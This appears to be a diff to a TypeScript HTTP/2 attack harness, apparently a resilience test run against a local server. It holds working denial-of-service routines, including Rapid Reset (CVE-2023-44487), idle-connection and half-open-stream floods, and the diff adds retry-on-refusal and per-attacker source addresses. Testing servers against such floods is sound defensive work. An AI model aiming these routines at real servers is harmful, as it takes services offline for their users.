@@ -1,4 +1,3 @@
-import { once } from 'node:events';
 import type { ClientHttp2Session, ClientHttp2Stream, OutgoingHttpHeaders } from 'node:http2';
 import { connect } from 'node:http2';
 import { setTimeout as delay } from 'node:timers/promises';
@@ -12,6 +11,8 @@ export interface Target {
   readonly ca: string;
   readonly certificate: string;
   readonly key: string;
+  /** The address on loopback from which to attack: others have other ones. */
+  readonly from: string;
 }
 
 /** Does so many of something bad; gives everything back that is still open. */
@@ -27,6 +28,8 @@ const waves = 50;
 /** More of them make the attacker slow, not the target. */
 const resetsPerConnection = 2_000;
 const connectWithinMs = 2_000;
+/** Whoever is refused tries again so soon. */
+const refusedMs = 5;
 
 /** Opens calls and resets each at once (CVE-2023-44487), on new connections when the old ones are closed for it. */
 export const rapidReset: Attack = async (target, count) => {
@@ -79,13 +82,13 @@ export const halfOpenStreams: Attack = async (target, count) => {
 
 /** Opens connections and does nothing. */
 export const idleConnections: Attack = async (target, count) => {
-  const sessions: (ClientHttp2Session | undefined)[] = [];
-  while (sessions.length < count) {
-    const wave = Math.min(waves, count - sessions.length);
-    sessions.push(...(await Promise.all(Array.from({ length: wave }, () => open(target).catch(() => undefined)))));
+  const sessions: ClientHttp2Session[] = [];
+  for (let tried = 0; tried < count; tried += waves) {
+    const opened = await Promise.all(Array.from({ length: waves }, () => tryOpen(target)));
+    sessions.push(...opened.filter((session) => session !== undefined));
   }
   await delay(2_000);
-  for (const session of sessions) session?.destroy();
+  for (const session of sessions) session.destroy();
 };
 
 /** Asks again and again for large answers, and reads none. */
@@ -163,28 +166,43 @@ function request(session: ClientHttp2Session, path: string, headers: OutgoingHtt
 
 const isOpen = (session: ClientHttp2Session): boolean => !session.closed && !session.destroyed;
 
-/** A new connection; tries until there is one, for the target may close some before they are made. */
+/** A new connection; tries until there is one, for the target closes some before they are made. */
 async function open(target: Target): Promise<ClientHttp2Session> {
-  const { port, ca, certificate, key } = target;
   for (;;) {
-    const session = connect(`https://localhost:${port}`, { ca, cert: certificate, key });
-    const isMade = await new Promise<boolean>((resolve) => {
-      session.once('connect', () => resolve(true));
-      for (const event of ['error', 'close']) session.on(event, () => resolve(false));
-      setTimeout(resolve, connectWithinMs, false).unref();
-    });
-    if (isMade) return session;
-    session.destroy();
+    const session = await tryOpen(target);
+    if (session !== undefined) return session;
+    await delay(refusedMs);
   }
 }
 
-async function openSocket({ port, ca, certificate, key }: Target): Promise<TLSSocket> {
-  const options = { port, host: 'localhost', servername: 'localhost', ca, cert: certificate, key };
-  const socket = connectTls({ ...options, ALPNProtocols: ['h2'] });
-  socket.on('error', () => undefined);
-  socket.resume();
-  await once(socket, 'secureConnect');
-  return socket;
+async function tryOpen(target: Target): Promise<ClientHttp2Session | undefined> {
+  const session = connect('https://localhost', { createConnection: () => newSocket(target) });
+  const isMade = await new Promise<boolean>((resolve) => {
+    session.once('connect', () => resolve(true));
+    for (const event of ['error', 'close']) session.on(event, () => resolve(false));
+    setTimeout(resolve, connectWithinMs, false).unref();
+  });
+  if (isMade) return session;
+  session.destroy();
+  return undefined;
+}
+
+function newSocket({ port, ca, certificate, key, from }: Target): TLSSocket {
+  const where = { port, host: 'localhost', servername: 'localhost', localAddress: from };
+  return connectTls({ ...where, ca, cert: certificate, key, ALPNProtocols: ['h2'] });
+}
+
+async function openSocket(target: Target): Promise<TLSSocket> {
+  for (;;) {
+    const socket = newSocket(target);
+    const isMade = await new Promise<boolean>((resolve) => {
+      socket.once('secureConnect', () => resolve(true));
+      for (const event of ['error', 'close']) socket.on(event, () => resolve(false));
+    });
+    socket.resume();
+    if (isMade) return socket;
+    await delay(refusedMs);
+  }
 }
 
 function frame(type: number, stream: number, payload: readonly number[]): Buffer {
